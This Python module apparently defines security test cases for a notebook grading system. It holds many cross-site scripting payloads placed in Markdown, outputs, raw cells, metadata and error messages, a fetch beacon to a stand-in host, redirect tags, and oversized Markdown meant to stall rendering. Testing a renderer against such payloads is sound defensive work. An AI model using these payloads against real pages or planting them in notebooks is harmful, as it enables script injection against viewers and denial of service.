"""Attacks on whoever looks at a marked notebook or its feedback: script by every way in."""

from __future__ import annotations

import json

from attack_form import LAZY, Attack
from small_course import Notebook, named

SCRIPT = "<script>fetch('//x/@MARK@')</script>"
_SHOW = "from IPython.display import display\n"


def _shows(mime: str, content: str) -> str:
    return f"{_SHOW}display({{{mime!r}: {content!r}, 'text/plain': 'x'}}, raw=True)"


def _markdown(notebook: Notebook) -> None:
    """Write script into prose, into the written answer, and into an attachment."""
    texts = (
        "<script>alert(1)</script><img src=x onerror=alert(1)>",
        "[click](javascript:alert(1)) <a href='data:text/html,<script>1</script>'>x</a>",
        "<svg><animate onbegin=alert(1)></svg><iframe srcdoc='<script>1</script>'></iframe>",
        "[x](java&#115;cript:alert(1)) [x](javascript\\:alert(1)) [x](javascript&colon;alert(1))",
        "[y][a] ![x](attachment:not-there.png)\n\n[a]: java&Tab;script:alert(1)",
        "[z](data:text/html;base64,PHNjcmlwdD4=) [z](java&#115cript:alert(1))",
        "<form action=//x><button formaction=javascript:alert(1)>x</button></form>",
        "<math><mtext></form><style><img src=x onerror=alert(1)></style></math>",
        "<meta http-equiv=refresh content='0;url=//x'><base href=//x><object data=//x>",
    )
    named(notebook, "answer-why")["source"] = "\n\n".join(texts)
    attachment = {"a.svg": {"image/svg+xml": "<svg onload=alert(1)></svg>"}}
    for number, text in enumerate(texts):
        cell = {"cell_type": "markdown", "id": f"prose-{number}", "metadata": {}, "source": text}
        notebook["cells"].append({**cell, "attachments": attachment})


def _long_prose(notebook: Notebook) -> None:
    """Write prose that a page takes hours to be made of."""
    texts = ("\\begin{a}" * 50_000, "![" * 50_000, "[a](" * 50_000, "**a_" * 50_000)
    for number, text in enumerate(texts * 5):
        cell = {"cell_type": "markdown", "id": f"long-{number}", "metadata": {}, "source": text}
        notebook["cells"].append(cell)


def _raw_cells(notebook: Notebook) -> None:
    for number, mime in enumerate(("text/html", "text/latex", "image/svg+xml")):
        metadata = {"format": mime, "raw_mimetype": mime}
        cell = {"cell_type": "raw", "id": f"raw-{number}", "metadata": metadata}
        notebook["cells"].append({**cell, "source": "<script>alert(1)</script>"})


def _old_outputs(notebook: Notebook) -> None:
    """Hand the notebook in with outputs that hold script, under every cell."""
    data = {"text/html": "<script>alert(1)</script>", "application/javascript": "alert(1)"}
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            row = {"output_type": "display_data", "data": data, "metadata": {}}
            cell["outputs"] = [row]


def _names(text: bytes) -> bytes:
    """Put script where ids, titles and tags stand."""
    notebook = json.loads(text)
    evil = '"><script>alert(1)</script>'
    notebook["metadata"].update(title=evil, authors=[{"name": evil}])
    notebook["metadata"]["kernelspec"] = {"name": evil, "display_name": evil, "language": evil}
    for cell in notebook["cells"]:
        cell["metadata"]["tags"] = [evil]
        if "course" not in cell["metadata"]:
            cell["id"] = evil
    return json.dumps(notebook).encode()


READERS = (
    Attack("html-output", "shows a page with script", top=_shows("text/html", SCRIPT)),
    Attack("svg-output", "shows a picture with script",
           top=_shows("image/svg+xml", "<svg onload=alert(1)><script>1</script></svg>")),
    Attack("javascript-output", "shows script itself",
           top=_shows("application/javascript", "alert(1)") + "\n"
           + _shows("text/javascript", "alert(1)")),
    Attack("markdown-output", "shows Markdown with script in it",
           top=_shows("text/markdown", SCRIPT + "[x](javascript:alert(1))")),
    Attack("latex-output", "shows formulas with links that run",
           top=_shows("text/latex", r"$\href{javascript:alert(1)}{x}$" + SCRIPT)),
    Attack("widget-output", "shows widgets, bundles and data of unknown kinds",
           top="\n".join(_shows(mime, SCRIPT) for mime in (
               "application/vnd.jupyter.widget-view+json", "application/vnd.plotly.v1+json",
               "application/vnd.bokehjs_exec.v0+json", "text/vnd.mermaid", "application/pdf",
               "TEXT/HTML", "text/html; charset=x", "image/svg+xml;x"))),
    Attack("false-picture", "shows a picture whose data and sizes end the tag that holds it",
           top=_SHOW + "display({'image/png': '\"><script>alert(1)</script>'}, "
           "{'image/png': {'width': '\" onload=alert(1) x=\"', 'alt': '\"><script>1</script>'}}, "
           "raw=True)"),
    Attack("repr-html", "ends a cell with an object that knows how to show itself",
           top=f"class R:\n    def _repr_html_(s): return {SCRIPT!r}\n"
           "    def _repr_mimebundle_(s, **k): return {'text/html': s._repr_html_()}, "
           "{'text/html': {'isolated': True}}\nR()"),
    Attack("printed-html", "prints tags and terminal commands",
           top=f"print({SCRIPT!r}, '\\x1b]8;;javascript:alert(1)\\x07x\\x1b]8;;\\x07"
           "\\x1b[31\"onx=\\x1b[m')\nraise ValueError('<img src=x onerror=alert(1)>')"),
    Attack("prose-script", "writes script into prose and into its written answer",
           damage=_markdown),
    Attack("long-prose", "writes prose that takes long to be laid out", damage=_long_prose),
    Attack("raw-cells", "hands in raw cells of other formats", damage=_raw_cells),
    Attack("old-outputs", "hands in outputs that hold script", damage=_old_outputs),
    Attack("script-in-names", "puts script where names, ids and tags stand", raw=_names),
    Attack("script-in-answer", "writes tags into comments, names and errors of its answer",
           answer=LAZY + "\n# </code></pre><script>alert(1)</script>\n"
           "raise type('</pre><script>alert(1)</script>', (Exception,), {})('<script>1</script>')"),
)  # fmt: skip
